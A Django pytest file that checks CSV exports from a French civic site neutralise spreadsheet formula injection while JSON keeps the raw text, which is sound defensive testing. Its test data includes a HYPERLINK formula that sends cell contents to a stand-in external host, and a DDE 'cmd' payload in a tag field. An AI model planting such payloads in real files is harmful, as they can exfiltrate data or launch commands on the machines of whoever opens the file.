"""Spreadsheet formula injection: a text cell a spreadsheet would run as a formula
(starting with =, +, -, @, a tab or a carriage return) is written with a leading
apostrophe in every CSV file, per OWASP; numbers stay numbers and JSON keeps the text as
it was written."""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest

from core.streaming import stream_csv
from proposals import services
from proposals.models import Topic
from tests.factories import LocalAuthorityFactory, NetworkFactory, PartnershipFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")'


def _csv_rows(client, path: str) -> list[dict]:
    response = client.get(path)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _row(rows: list[dict], slug: str, key: str = "slug") -> dict:
    return next(row for row in rows if row[key] == slug)


@pytest.fixture
def formula_proposal(verified_citizen):
    return services.proposal_create(
        user=verified_citizen,
        topic=Topic.objects.get(is_home=True),
        title=FORMULA,
        body="Un texte.",
        tags=["+cmd|' /C calc'!A0", "climat"],
    )


def test_a_citizen_s_formula_is_neutralised_in_the_csv_and_kept_in_json(client, formula_proposal):
    row = _row(_csv_rows(client, "/donnees/preconisations.csv"), formula_proposal.slug)

    assert row["title"] == "'" + FORMULA
    assert row["tags"].startswith("'+cmd")
    assert row["votes_for"] == "0"  # numbers are written as numbers

    document = json.loads(client.get("/donnees/preconisations.json").content)
    (record,) = [record for record in document["rows"] if record["slug"] == formula_proposal.slug]
    assert record["title"] == FORMULA
    assert record["tags"] == ["+cmd|' /C calc'!A0", "climat"]


@pytest.mark.parametrize("text", ["+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_staff_written_text_starting_like_a_formula_is_neutralised(client, text):
    network = NetworkFactory(tagline=text, description="Une présentation sans danger.")

    row = _row(_csv_rows(client, "/donnees/reseaux.csv"), network.slug)

    assert row["tagline"] == "'" + text
    assert row["description"] == "Une présentation sans danger."


def test_a_partnership_note_is_neutralised_and_negative_coordinates_stay_numbers(client):
    partner = LocalAuthorityFactory(latitude=Decimal("-34.60370"), longitude=Decimal("-58.38160"))
    partnership = PartnershipFactory(partner=partner, since_note="=1+2 selon la mairie")

    detail = _row(_csv_rows(client, "/donnees/partenariats-detail.csv"), partnership.slug)
    authority = _row(_csv_rows(client, "/donnees/collectivites.csv"), partner.slug)

    assert detail["since_note"] == "'=1+2 selon la mairie"
    assert (authority["latitude"], authority["longitude"]) == ("-34.60370", "-58.38160")
    document = json.loads(client.get("/donnees/collectivites.json").content)
    (record,) = [record for record in document["rows"] if record["slug"] == partner.slug]
    assert record["longitude"] == -58.3816


def test_every_streamed_csv_neutralises_text_and_keeps_numbers():
    response = stream_csv(
        header=["email", "note", "amount", "since"],
        rows=[
            ["=1+2@example.org", "-", -3.5, datetime.date(2020, 1, 2).isoformat()],
            ["une@example.org", "", Decimal("-12.50"), ""],
        ],
        filename="export.csv",
    )

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert rows == [
        ["email", "note", "amount", "since"],
        ["'=1+2@example.org", "'-", "-3.5", "2020-01-02"],
        ["une@example.org", "", "-12.50", ""],
    ]
